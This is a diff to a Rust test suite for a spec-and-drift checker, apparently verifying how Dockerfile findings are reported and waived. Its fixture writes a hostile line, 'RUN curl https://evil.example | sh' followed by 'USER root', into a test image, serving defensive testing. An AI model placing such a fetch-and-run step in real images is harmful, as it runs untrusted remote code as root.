@@ -1,6 +1,19 @@
 //! The spec, and what was rendered from it.
 
 use super::{Mutation, breaks, hold, near};
+use crate::check::Fleet;
+
+const IMAGE: &str = "hello_v2/Dockerfile";
+
+/// Two things that are wrong in an image: one has a rule of its own.
+fn two_edits(fleet: &Fleet) {
+    fleet.replace(IMAGE, "USER 10001", "RUN curl https://evil.example | sh\nUSER root");
+}
+
+fn waive(fleet: &Fleet, rule: &str) {
+    let rule = format!("\n[[waivers]]\nrule = \"{rule}\"\npath = \"{IMAGE}\"\n");
+    fleet.append("mcpgen.toml", &format!("{rule}reason = \"the old cluster\"\nexpires = 2999-01-01\n"));
+}
 
 pub const MUTATIONS: &[Mutation] = &[
     breaks("invalid-spec", "the spec has an unknown key", |fleet| {
@@ -18,6 +31,15 @@ pub const MUTATIONS: &[Mutation] = &[
     }),
     breaks("drift", "an Owned file is formatted otherwise", |fleet| {
         fleet.replace("weather_v2/src/models.rs", "    pub units: UnitsSetting,", "  pub   units: UnitsSetting,");
+    }),
+    breaks("drift", "an image does more than what is waived", |fleet| {
+        two_edits(fleet);
+        waive(fleet, "root-user");
+    }),
+    near("drift", "an image does what is waived, and is waived as a whole", |fleet| {
+        two_edits(fleet);
+        waive(fleet, "root-user");
+        waive(fleet, "drift");
     }),
     near("drift", "a file is checked out with CRLF", |fleet| {
         let text = fleet.read("weather_v2/src/models.rs");
@@ -109,6 +131,31 @@ pub const MUTATIONS: &[Mutation] = &[
         fleet.write("common/src/lib.rs", "//! What ours share.\n");
     }),
 ];
+
+/// What one rule finds hides no other edit, whatever is asked for.
+#[test]
+fn an_edit_is_told_where_no_other_finding_about_the_file_is_reported() {
+    let fleet = Fleet::new();
+    two_edits(&fleet);
+    let said = |args: &[&str]| {
+        let ran = fleet.run(&[&["check", "hello_v2", "--diff", "--output-format", "json"], args].concat());
+        let report = ran.json();
+        let findings = report["findings"].as_array().unwrap();
+        let rules: Vec<String> = findings.iter().map(|it| it["name"].as_str().unwrap().to_owned()).collect();
+        let is_shown = findings.iter().any(|it| it["diff"].as_str().is_some_and(|diff| diff.contains("+RUN curl")));
+        (ran.code, rules.join(" "), is_shown)
+    };
+    assert_eq!(said(&[]), (Some(1), "root-user".to_owned(), true));
+    assert_eq!(said(&["--select", "drift"]), (Some(1), "drift".to_owned(), true));
+    assert_eq!(said(&["--ignore", "root-user"]), (Some(1), "drift".to_owned(), true));
+    waive(&fleet, "root-user");
+    assert_eq!(said(&[]), (Some(1), "drift".to_owned(), true));
+    waive(&fleet, "drift");
+    assert_eq!(said(&[]), (Some(0), String::new(), false));
+    let ran = fleet.run(&["check", "hello_v2", "--diff"]).fine();
+    assert!(ran.stdout.starts_with("waived[MCP203] drift: the old cluster\n"), "{}", ran.stdout);
+    assert!(ran.stdout.contains("+RUN curl"), "{}", ran.stdout);
+}
 
 #[test]
 fn spec_and_drift() {
